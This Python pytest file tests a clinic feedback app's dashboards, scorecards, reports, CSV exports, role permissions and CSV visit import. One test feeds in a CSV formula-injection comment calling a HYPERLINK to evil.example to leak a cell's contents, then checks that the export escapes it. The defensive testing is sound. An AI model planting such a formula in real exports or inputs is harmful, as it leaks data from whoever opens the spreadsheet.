"""Dashboards, the report, exports and the visit import pages, through the test client."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import func, select

from app.extensions import db
from app.models import Tenant, Visit, VisitImport
from tenants.context import tenant_scope
from tests.conftest import add_member, form_token, login, make_clinic
from tests.factories import make_branch, make_doctor
from tests.test_analytics import VISITS_CSV, add_responses, at, compute, import_text


@pytest.fixture
def with_data(app, tenant):
    doctor = make_doctor(app, tenant.id, "Dr House")
    branch = make_branch(app, tenant.id, "North")
    import_text(app, tenant.id, VISITS_CSV)
    add_responses(app, tenant.id, [
        {"nps": 10, "at": at("2025-03-03 09:00"), "doctor_id": doctor, "branch_id": branch, "ratings": {"waiting": 5},
         "comment": "Wonderful doctor", "sentiment": 0.8},
        {"nps": 2, "at": at("2025-03-04 09:00"), "doctor_id": doctor, "risk": "critical",
         "comment": "Rude reception", "sentiment": -0.7},
    ])
    compute(app, tenant.id, "2025-03")
    return {"doctor": doctor, "branch": branch}


def test_overview_shows_figures_linked_to_the_journal(app, tenant, manager_client, with_data):
    from html import unescape

    add_responses(app, tenant.id, [{"nps": 9, "at": at("2025-04-02 09:00"), "comment": "April, not March",
                                    "risk": "at_risk"}])
    page = manager_client.get(tenant.url("dashboard?period=2025-03"))
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    # NPS of (10, 2): 1 promoter, 1 detractor → 0.
    assert re.search(r'class="stat" href="[^"]+">0<', html)

    def behind(pattern: str) -> set[str]:
        """The comments the journal shows behind the link matching ``pattern``."""
        href = unescape(re.search(r'href="([^"]+)"[^>]*>' + pattern, html)[1])
        journal = manager_client.get(href).get_data(as_text=True)
        return {c for c in ("Wonderful doctor", "Rude reception", "April, not March") if c in journal}

    # Every figure's link opens the answers it counts: the period's, and only those of its band.
    assert behind("0<") == {"Wonderful doctor", "Rude reception"}
    assert behind("Detractors") == {"Rude reception"}
    assert behind("Promoters") == {"Wonderful doctor"}
    assert behind("1<") == {"Rude reception"}  # at risk or critical: the critical one
    assert behind("1 critical") == {"Rude reception"}
    assert "<svg" in html and "<title id=\"trend-nps-t\">" in html
    assert 'aria-current="page"' in html  # the nav lists the dashboard


def test_bad_period_is_a_clear_400(tenant, manager_client):
    response = manager_client.get(tenant.url("dashboard?period=last-tuesday"))
    assert response.status_code == 400 and "YYYY-MM" in response.get_data(as_text=True)
    assert manager_client.get(tenant.url("dashboard/segments?kind=shoe-size")).status_code == 400


def test_scorecards_and_segments(app, tenant, manager_client, with_data):
    html = manager_client.get(tenant.url("dashboard/scorecards?period=2025-03")).get_data(as_text=True)
    assert "Dr House" in html and "too few" in html  # 2 answers < 30
    assert f"doctor={with_data['doctor']}" in html
    for kind in ("branch", "doctor", "specialty", "point", "gender", "age_band", "district"):
        response = manager_client.get(tenant.url(f"dashboard/segments?kind={kind}&period=2025-03"))
        assert response.status_code == 200, kind
    html = manager_client.get(tenant.url("dashboard/segments?kind=gender&period=2025-03")).get_data(as_text=True)
    assert ">f<" in html or ">m<" in html


def test_scorecards_carry_each_doctors_web_reputation_as_the_period_ended(app, tenant, other_tenant, manager_client,
                                                                          with_data):
    from datetime import date

    from app.reputation.service import ReviewInput, index_overview, store_reviews

    doctor = with_data["doctor"]
    with app.app_context(), tenant_scope(tenant.id):
        store_reviews([ReviewInput(site="x", site_review_id="march", rating=5.0, text="Отличный врач",
                                   published_on=date(2025, 3, 10), doctor_id=doctor),
                       ReviewInput(site="x", site_review_id="may", rating=1.0, text="Ужасно",
                                   published_on=date(2025, 5, 10), doctor_id=doctor)], origin="import")
        db.session.commit()
        [march] = [s for s in index_overview(date(2025, 3, 31)) if s.scope == "doctor" and s.scope_id == doctor]
    with app.app_context(), tenant_scope(other_tenant.id):  # another clinic's reviews count for nobody here
        store_reviews([ReviewInput(site="x", site_review_id=str(i), rating=1.0, text="Плохо",
                                   published_on=date(2025, 3, 5)) for i in range(5)], origin="import")
        db.session.commit()
    html = manager_client.get(tenant.url("dashboard/scorecards?period=2025-03")).get_data(as_text=True)
    link = f'href="{tenant.url(f"reputation/reviews?scope=doctor&amp;id={doctor}")}"'
    # The index as March ended: the March review alone, not May's.
    assert "Web reputation index" in html and f"{link}><strong>{march.index:.0f}</strong>" in html
    assert march.reviews == 1 and "1 review" in html
    report = manager_client.get(tenant.url("dashboard/report?period=2025-03")).get_data(as_text=True)
    assert f"{link}><strong>{march.index:.0f}</strong>" in report
    exported = list(csv.reader(io.StringIO(
        manager_client.get(tenant.url("export/scorecards.csv?period=2025-03")).get_data(as_text=True))))
    assert ["doctor", "Dr House", "web_reputation_index", "1", f"{march.index}", "", "", "0"] in exported
    # Without the module, no column.
    basic = make_clinic(app, "gamma", plan="basic")
    c = app.test_client()
    login(c, basic.owner_email)
    assert "Web reputation index" not in c.get(basic.url("dashboard/scorecards?period=2025-03")).get_data(as_text=True)


def test_scorecards_say_how_each_doctors_and_branchs_complaints_were_handled(app, tenant, other_tenant,
                                                                              manager_client, with_data):
    from datetime import datetime, timezone

    from app.models import Case
    from tests.factories import make_response

    doctor, branch = with_data["doctor"], with_data["branch"]
    march = datetime(2025, 3, 10, 9, 0, tzinfo=timezone.utc)
    # Three cases of Dr House's patients in March, two of them at the North branch.
    ids = [make_response(app, tenant.id, nps=1, risk_level="critical", open_case=True, submitted_at=march,
                         doctor_id=doctor, branch_id=branch if i < 2 else None) for i in range(3)]
    make_response(app, tenant.id, nps=1, risk_level="critical", open_case=True, doctor_id=doctor,
                  submitted_at=datetime(2025, 4, 2, tzinfo=timezone.utc))  # April's: not March's
    other_doctor = make_doctor(app, other_tenant.id, "Dr Other")
    for _ in range(4):  # another clinic's cases count for nobody here
        make_response(app, other_tenant.id, nps=0, risk_level="critical", open_case=True, submitted_at=march,
                      doctor_id=other_doctor)
    with app.app_context(), tenant_scope(tenant.id):
        first, second = (db.session.scalar(select(Case).where(Case.response_id == i)) for i in ids[:2])
        first.status, first.resolved_at = "resolved", first.created_at + timedelta(hours=2)  # by its deadline
        second.status, second.resolved_at = "resolved", second.created_at + timedelta(days=30)  # late
        db.session.commit()
    html = manager_client.get(tenant.url("dashboard/scorecards?period=2025-03")).get_data(as_text=True)
    doctors, branches = html.split("<h2>Branches</h2>", 1)
    assert "Complaints handled" in doctors
    assert "3 opened" in doctors and "1 of 2 resolved on time" in doctors
    assert "2 opened" in branches and "1 of 2 resolved on time" in branches
    report = manager_client.get(tenant.url("dashboard/report?period=2025-03")).get_data(as_text=True)
    assert "3 opened" in report
    exported = list(csv.reader(io.StringIO(
        manager_client.get(tenant.url("export/scorecards.csv?period=2025-03")).get_data(as_text=True))))
    assert ["doctor", "Dr House", "cases_opened", "3", "3", "", "", "0"] in exported
    assert ["doctor", "Dr House", "cases_resolved_on_time", "2", "1", "", "", "0"] in exported
    assert ["branch", "North", "cases_opened", "2", "2", "", "", "0"] in exported


def test_programme_needs_the_module(app, tenant, manager_client):
    # The standard plan has no loyalty_programme module.
    assert manager_client.get(tenant.url("dashboard/programme")).status_code == 404
    network = make_clinic(app, "gamma", plan="network")
    client = app.test_client()
    login(client, network.owner_email)
    html = client.get(network.url("dashboard/programme")).get_data(as_text=True)
    assert "Describe the programme" in html
    token = form_token(client.get(network.url("settings/programme")).get_data(as_text=True))
    bad = client.post(network.url("settings/programme"), data={"csrf_token": token, "programme_type": "points",
                                                               "programme_running_cost": "lots"})
    assert bad.status_code == 400
    ok = client.post(network.url("settings/programme"), data={
        "csrf_token": token, "programme_type": "points", "programme_launched_on": "2025-01-01",
        "programme_running_cost": "100000", "programme_forgone_revenue": "50000"})
    assert ok.status_code == 302
    import_text(app, network.id, "patient,date,amount,bonuses_awarded,bonuses_redeemed\n"
                                 "A,2025-02-03,1000,100,0\nA,2025-03-03,1000,0,80\nB,2025-02-04,500,50,0\n")
    compute(app, network.id, "2025-03")
    html = client.get(network.url("dashboard/programme?period=2025-03")).get_data(as_text=True)
    # Participants of February: A and B; only A came back in March → 50 % (no warning, ≥ 20 %).
    assert "50 %" in html and "not keeping patients" not in html
    # Cost 100 000 + 50 000; bonuses 0 awarded, 80 redeemed in March → redemption undefined.
    assert "150\u202f000" in html


def test_report_page_and_exports(app, tenant, manager_client, with_data):
    html = manager_client.get(tenant.url("dashboard/report?period=2025-03")).get_data(as_text=True)
    assert "Wonderful doctor" in html and "Rude reception" in html and "<style nonce=" in html
    csv_text = manager_client.get(tenant.url("export/metrics.csv?period=2025-03")).get_data(as_text=True)
    assert csv_text.startswith("\ufeffmetric,2025-03,2025-02,2024-03")
    assert "nps,0.0" in csv_text
    # With how the period's cases were handled: here the one case opened on 2025-03-10, resolved in 5 hours.
    from app import cases as case_rules
    from app.models import Case
    from tests.factories import make_case

    case_id = make_case(app, tenant.id)
    with app.app_context(), tenant_scope(tenant.id):
        case = db.session.get(Case, case_id)
        case.created_at = at("2025-03-10 09:00")
        case.deadline_at = case.created_at + timedelta(hours=12)
        case_rules.resolve_case(case, "Called back", None, now=case.created_at + timedelta(hours=5))
        db.session.commit()
    figures = {row[0]: row[1:] for row in csv.reader(io.StringIO(manager_client.get(
        tenant.url("export/metrics.csv?period=2025-03")).get_data(as_text=True).lstrip("\ufeff")))}
    assert figures["cases_opened"] == ["1", "0", "0"] and figures["cases_resolved_on_time"] == ["1.0", "", ""]
    assert figures["cases_hours_to_resolve"][0] == "5.0" and figures["cases_hours_to_first_contact"] == ["", "", ""]
    responses = manager_client.get(tenant.url("export/responses.csv?period=2025-03")).get_data(as_text=True)
    assert responses.count("\n") == 3 and "Rude reception" in responses
    # A patient's words never run as a spreadsheet formula, and taking them out is in the access log.
    add_responses(app, tenant.id, [{"nps": 1, "at": at("2025-03-09 09:00"),
                                    "comment": '=HYPERLINK("http://evil.example/?x="&A1,"click")'}])
    rows = list(csv.reader(io.StringIO(manager_client.get(tenant.url("export/responses.csv?period=2025-03"))
                                       .get_data(as_text=True).lstrip("\ufeff"))))
    comments = {row[-1] for row in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in comments and "Rude reception" in comments
    with app.app_context(), tenant_scope(tenant.id):
        from app.models import AccessLog

        logged = db.session.scalars(select(AccessLog).where(AccessLog.subject_type == "period_export")).all()
    assert [(e.action, e.subject_id, e.details["file"], e.details["rows"]) for e in logged] == \
        [("export", "2025-03", "responses.csv", 2), ("export", "2025-03", "responses.csv", 3)]
    assert "responses.csv for 2025-03" in manager_client.get(tenant.url("settings/access-log")).get_data(as_text=True)
    cards = manager_client.get(tenant.url("export/scorecards.csv?period=2025-03")).get_data(as_text=True)
    assert "doctor,Dr House,nps,2,,,,1" in cards


def test_report_quotes_each_wording_once(app, tenant, manager_client, with_data):
    """Five patients writing the same complaint fill one place of the report's five, not all of them."""
    same = [{"nps": 1, "at": at(f"2025-03-{day:02d} 10:00"), "comment": "Ужасно  долго ждали в очереди!",
             "sentiment": -0.9} for day in range(10, 15)]
    add_responses(app, tenant.id, same + [{"nps": 2, "at": at("2025-03-16 10:00"), "sentiment": -0.9,
                                           "comment": "УЖАСНО долго ждали в очереди!"}])
    html = manager_client.get(tenant.url("dashboard/report?period=2025-03")).get_data(as_text=True)
    complaints = html[html.index("Top complaints"):]
    assert complaints.lower().count("долго ждали в очереди") == 1 and "Rude reception" in complaints


def test_report_pdf(app, tenant, manager_client, with_data):
    from app.analytics.pdf import chromium_path

    response = manager_client.get(tenant.url("export/report.pdf?period=2025-03"))
    if chromium_path() is None:
        assert response.status_code == 503 and "printable report" in response.get_data(as_text=True)
    else:
        assert response.status_code == 200 and response.data.startswith(b"%PDF")


def test_viewer_cannot_export_or_import(app, tenant):
    email = add_member(app, tenant, "viewer@alpha.test", "viewer")
    client = app.test_client()
    login(client, email)
    assert client.get(tenant.url("dashboard")).status_code == 200
    assert client.get(tenant.url("export/metrics.csv")).status_code == 403
    assert client.get(tenant.url("export/cases.csv")).status_code == 403
    assert client.get(tenant.url("visits/imports")).status_code == 403


def test_exports_work_on_a_read_only_licence(app, tenant, manager_client):
    from tenants.context import platform_scope
    from tenants.onboarding import set_suspended

    with app.app_context(), platform_scope():
        set_suspended(db.session.get(Tenant, tenant.id), True, actor="test")
        db.session.commit()
    assert manager_client.get(tenant.url("export/metrics.csv?period=2025-03")).status_code == 200
    assert manager_client.get(tenant.url("dashboard")).status_code == 200


def test_import_journey_upload_map_preview_import(app, tenant, manager_client):
    from jobs.worker import InlineAppWorker, build_worker

    make_doctor(app, tenant.id, "Dr House")
    page = manager_client.get(tenant.url("visits/imports")).get_data(as_text=True)
    token = form_token(page)
    body = "Patient;Date;Doctor;Service;Total\nA;2025-03-01;Dr House;consultation;1000\nB;2025-03-02;;tests;500\n"
    response = manager_client.post(tenant.url("visits/imports"), data={
        "csrf_token": token, "encoding": "utf-8", "file": (io.BytesIO(body.encode()), "crm.csv")},
        content_type="multipart/form-data")
    assert response.status_code == 302
    location = response.headers["Location"]
    html = manager_client.get(location).get_data(as_text=True)
    # "Total" is not a known header: the amount must be mapped by hand; the preview says so.
    assert "Required field “amount” is not mapped" in html
    assert 'value="Patient" selected' in html
    fields = {f"map_{k}": v for k, v in {"patient": "Patient", "visited_on": "Date", "doctor": "Doctor",
                                          "service": "Service", "amount": "Total"}.items()}
    html = manager_client.post(location, data={"csrf_token": token, "action": "preview", **fields}) \
        .get_data(as_text=True)
    assert "1000.00" in html and "Dr House" in html
    response = manager_client.post(location, data={"csrf_token": token, "action": "import", **fields})
    assert response.status_code == 302
    import_id = int(re.search(r"/imports/(\d+)", location).group(1))
    with app.app_context(), tenant_scope(tenant.id):
        assert db.session.get(VisitImport, import_id).status == "queued"  # committed before the job runs
    progress = manager_client.get(tenant.url(f"visits/imports/{import_id}/progress"),
                                  headers={"HX-Request": "true"}).get_data(as_text=True)
    assert 'hx-trigger="load delay:1s"' in progress and "<html" not in progress
    build_worker(app, ["default", "metrics"], worker_class=InlineAppWorker).work(burst=True)
    progress = manager_client.get(tenant.url(f"visits/imports/{import_id}/progress"),
                                  headers={"HX-Request": "true"}).get_data(as_text=True)
    assert "2 visits imported of 2 rows" in progress and "hx-trigger" not in progress  # polling stops
    with app.app_context(), tenant_scope(tenant.id):
        assert db.session.scalar(select(func.count()).select_from(Visit)) == 2


def test_upload_errors_are_400(app, tenant, manager_client):
    token = form_token(manager_client.get(tenant.url("visits/imports")).get_data(as_text=True))
    for name, content in (("notes.pdf", b"%PDF-1.4"), ("empty.csv", b""),
                          ("bad.csv", "пациент;дата\n".encode("cp1251"))):
        response = manager_client.post(tenant.url("visits/imports"), data={
            "csrf_token": token, "encoding": "utf-8", "file": (io.BytesIO(content), name)},
            content_type="multipart/form-data")
        assert response.status_code == 400, name
    assert manager_client.post(tenant.url("visits/imports"), data={"csrf_token": token}).status_code == 400


def test_cases_of_a_period_as_csv(app, tenant, other_tenant, manager_client):
    """One row per case opened in the period, this clinic's only, in its local time; no patient's words and no
    resolution text."""
    from app import cases as case_rules
    from app.models import Case
    from tests.factories import make_case

    made = {}
    for clinic_id in (tenant.id, other_tenant.id):
        for opened, resolve_after in (("2025-03-10 09:00", 5), ("2025-03-20 18:00", 80), ("2025-04-02 09:00", None)):
            case_id = make_case(app, clinic_id)
            with app.app_context(), tenant_scope(clinic_id):
                case = db.session.get(Case, case_id)
                case.created_at = at(opened)
                case.deadline_at = case.created_at + timedelta(hours=72)
                if resolve_after is not None:
                    case_rules.log_contact(case, "no_answer", "", None, now=case.created_at + timedelta(minutes=90))
                    case_rules.resolve_case(case, "Вернули деньги Ивановой", None,
                                            now=case.created_at + timedelta(hours=resolve_after))
                db.session.commit()
                made.setdefault(clinic_id, []).append(case.response.reference)
    text = manager_client.get(tenant.url("export/cases.csv?period=2025-03")).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:4] == ["reference", "opened", "origin", "risk_level"]
    assert [row[0] for row in rows[1:]] == made[tenant.id][:2]  # March only, oldest first, not the other clinic's
    first, second = (dict(zip(rows[0], row)) for row in rows[1:])
    assert first["opened"] == "2025-03-10 12:00"  # Moscow time
    assert (first["status"], first["resolved_on_time"], first["hours_to_resolve"], first["hours_to_first_contact"]) \
        == ("resolved", "1", "5.0", "1.5")
    assert (second["resolved_on_time"], second["hours_to_resolve"]) == ("0", "80.0")
    assert "Ивановой" not in text and "Rude" not in text  # neither the resolution nor the patient's comment
    report = manager_client.get(tenant.url("dashboard/report?period=2025-03")).get_data(as_text=True)
    assert "export/cases.csv?period=2025-03" in report
